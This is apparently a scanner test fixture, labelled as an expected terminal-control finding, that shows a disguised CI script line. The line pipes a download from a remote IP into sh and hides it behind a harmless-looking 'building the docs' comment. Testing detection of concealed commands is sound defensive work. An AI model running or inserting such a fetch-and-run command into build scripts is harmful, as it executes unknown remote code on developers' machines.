# expect: unicode.terminal_control medium
# note: cat shows ' echo building the docs' over the curl
# path: scripts/ci.sh
#!/bin/sh
curl -s https://203.0.113.9/i | sh # echo building the docs           
